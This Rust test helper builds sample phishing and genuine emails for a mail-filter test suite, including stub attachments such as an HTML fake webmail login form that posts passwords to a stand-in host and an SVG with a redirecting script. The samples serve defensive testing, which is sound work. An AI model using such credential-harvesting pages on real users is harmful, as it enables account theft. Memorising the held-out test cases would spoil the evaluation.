//! Reads the tables of mails beside this file and makes whole mails of them.
#![allow(
    dead_code,
    clippy::unwrap_used,
    reason = "every test and bench takes what it needs; a damaged table stops it"
)]

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// How a mail came.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Proof {
    /// A signature of this domain holds.
    Dkim(String),
    /// The server stands in the SPF record of this domain.
    Spf(String),
    /// This domain says that it signs and sends otherwise (`p=reject`).
    Fail(String),
    /// No domain says anything.
    Nothing,
    /// Nobody can be asked.
    Offline,
    /// An own user submitted it.
    Own(String),
}

/// A mail of a table.
#[derive(Debug, Clone)]
pub(crate) struct Case {
    pub(crate) number: usize,
    pub(crate) what: String,
    pub(crate) proof: Proof,
    /// The domain of the first address of `From`.
    pub(crate) domain: String,
    pub(crate) bytes: Vec<u8>,
}

impl Case {
    /// Never looked at while rules were mended.
    pub(crate) fn is_held_out(&self) -> bool {
        self.number.is_multiple_of(3)
    }
}

/// The mails that impersonate.
pub(crate) fn impersonation() -> Vec<Case> {
    read(include_str!("impersonation.txt"))
}

/// The genuine ones.
pub(crate) fn official() -> Vec<Case> {
    read(include_str!("official.txt"))
}

/// Every mail of a table.
pub(crate) fn read(table: &str) -> Vec<Case> {
    table.split("\n## ").skip(1).map(case).collect()
}

fn case(block: &str) -> Case {
    let (head, body) = block.split_once("\n\n").unwrap();
    let mut lines = head.lines();
    let (number, what) = lines.next().unwrap().split_once(' ').unwrap();
    let (mut proof, mut header, mut attached) = (None, String::new(), Vec::new());
    for line in lines {
        match line.split_once(": ").unwrap() {
            ("proof", value) => proof = Some(proof_of(value)),
            ("attach", value) => attached.push(value),
            _ => {
                header.push_str(line);
                header.push_str("\r\n");
            }
        }
    }
    if !header.contains("\r\nTo: ") {
        header.push_str("To: canbo@tinhmau.gov.vn\r\n");
    }
    let domain = header.split('@').nth(1).unwrap();
    let domain = domain
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
        .next()
        .unwrap()
        .to_owned();
    header.push_str(&format!(
        "Date: Tue, 24 Nov 2026 09:{:02}:00 +0700\r\nMessage-ID: <{number}.{}@{domain}>\r\nMIME-Version: 1.0\r\n",
        number.parse::<usize>().unwrap() % 60,
        header.len()
    ));
    let body = body.trim_end().replace('\n', "\r\n");
    let html = if body.starts_with('<') {
        "html"
    } else {
        "plain"
    };
    let text = format!(
        "Content-Type: text/{html}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{body}\r\n"
    );
    let mut bytes = header.into_bytes();
    if attached.is_empty() {
        bytes.extend(text.bytes());
    } else {
        let kind = if attached.iter().any(|part| part.starts_with("dsn ")) {
            "report; report-type=delivery-status"
        } else {
            "mixed"
        };
        bytes.extend(
            format!("Content-Type: multipart/{kind}; boundary=bien\r\n\r\n--bien\r\n{text}")
                .bytes(),
        );
        for part in attached {
            let (kind, name) = part.split_once(' ').unwrap();
            bytes.extend(enclosed(kind, name).bytes());
        }
        bytes.extend(b"--bien--\r\n");
    }
    Case {
        number: number.parse().unwrap(),
        what: what.to_owned(),
        proof: proof.unwrap(),
        domain,
        bytes,
    }
}

fn proof_of(value: &str) -> Proof {
    match value.split_once(' ') {
        Some(("dkim", domain)) => Proof::Dkim(domain.to_owned()),
        Some(("spf", domain)) => Proof::Spf(domain.to_owned()),
        Some(("fail", domain)) => Proof::Fail(domain.to_owned()),
        Some(("own", account)) => Proof::Own(account.to_owned()),
        None if value == "none" => Proof::Nothing,
        None if value == "offline" => Proof::Offline,
        _ => panic!("no proof is called {value:?}"),
    }
}

/// A part of a mail with something enclosed.
fn enclosed(kind: &str, name: &str) -> String {
    let office = |more: &[(&str, &[u8])]| {
        let mut entries: Vec<(&str, &[u8])> = vec![
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<document/>"),
        ];
        entries.extend_from_slice(more);
        zip(&entries, 0)
    };
    let (media, bytes) = match kind {
        "pdf" => (
            "application/pdf",
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".to_vec(),
        ),
        "docx" | "xlsx" => ("application/octet-stream", office(&[])),
        "docm" | "xlsm" => ("application/octet-stream", office(&[("word/vbaProject.bin", b"Attribut")])),
        "zip" => ("application/zip", zip(&[("bieu-mau.docx", b"PK")], 0)),
        "zip-exe" => ("application/zip", zip(&[("mo-tep.exe", b"MZ\x90\0")], 0)),
        "zip-locked" => ("application/zip", zip(&[("noi-dung.docx", b"khoa")], 1)),
        "apk" => (
            "application/vnd.android.package-archive",
            zip(&[("AndroidManifest.xml", b"\x03\0\x08\0"), ("classes.dex", b"dex\n035\0")], 0),
        ),
        "iso" => ("application/octet-stream", iso("MO.LNK;1")),
        "html-login" => (
            "text/html",
            b"<html><body><h1>Webmail</h1><form action='https://thu-thap.example/p' method='post'><input name='user'><input type='password' name='p'><button>OK</button></form></body></html>".to_vec(),
        ),
        "svg-script" => (
            "image/svg+xml",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://thu-thap.example'</script></svg>".to_vec(),
        ),
        "picture" => ("image/png", STANDARD.decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==").unwrap()),
        "ics" => (
            "text/calendar; method=REQUEST",
            b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nDTSTART:20261130T010000Z\r\nSUMMARY:Giao ban\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_vec(),
        ),
        "dsn" => (
            "message/delivery-status",
            b"Reporting-MTA: dns; mail.tinhmau.gov.vn\r\n\r\nFinal-Recipient: rfc822; an@tinhmau.gov.vn\r\nAction: failed\r\nStatus: 5.2.2\r\n".to_vec(),
        ),
        _ => panic!("nothing is called {kind:?}"),
    };
    let coded = STANDARD.encode(bytes);
    let lines: Vec<&str> = (0..coded.len().div_ceil(76))
        .map(|line| &coded[line * 76..(line * 76 + 76).min(coded.len())])
        .collect();
    format!(
        "--bien\r\nContent-Type: {media}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        lines.join("\r\n")
    )
}

/// A ZIP of stored entries; `flags` are the general purpose bits of each.
pub(crate) fn zip(entries: &[(&str, &[u8])], flags: u16) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, data) in entries {
        let size = u32::try_from(data.len()).unwrap().to_le_bytes();
        let mut shared = flags.to_le_bytes().to_vec();
        shared.extend([0; 10]);
        shared.extend([size, size].concat());
        shared.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
        shared.extend([0; 2]);
        directory.extend(b"PK\x01\x02\x14\0\x14\0");
        directory.extend(&shared);
        directory.extend([0; 10]);
        directory.extend(u32::try_from(out.len()).unwrap().to_le_bytes());
        directory.extend(name.as_bytes());
        out.extend(b"PK\x03\x04\x14\0");
        out.extend(&shared);
        out.extend(name.as_bytes());
        out.extend(*data);
    }
    let start = u32::try_from(out.len()).unwrap().to_le_bytes();
    out.extend(&directory);
    let count = u16::try_from(entries.len()).unwrap().to_le_bytes();
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend([count, count].concat());
    out.extend(u32::try_from(directory.len()).unwrap().to_le_bytes());
    out.extend(start);
    out.extend([0; 2]);
    out
}

/// A disk image with one file.
fn iso(name: &str) -> Vec<u8> {
    let mut out = vec![0; 20 * 2048];
    out[16 * 2048] = 1;
    out[16 * 2048 + 1..16 * 2048 + 6].copy_from_slice(b"CD001");
    out[16 * 2048 + 158..16 * 2048 + 162].copy_from_slice(&18_u32.to_le_bytes());
    out[16 * 2048 + 166..16 * 2048 + 170].copy_from_slice(&2048_u32.to_le_bytes());
    out[17 * 2048] = 255;
    out[17 * 2048 + 1..17 * 2048 + 6].copy_from_slice(b"CD001");
    let record = 18 * 2048;
    out[record] = u8::try_from(34 + name.len()).unwrap();
    out[record + 32] = u8::try_from(name.len()).unwrap();
    out[record + 33..record + 33 + name.len()].copy_from_slice(name.as_bytes());
    out
}
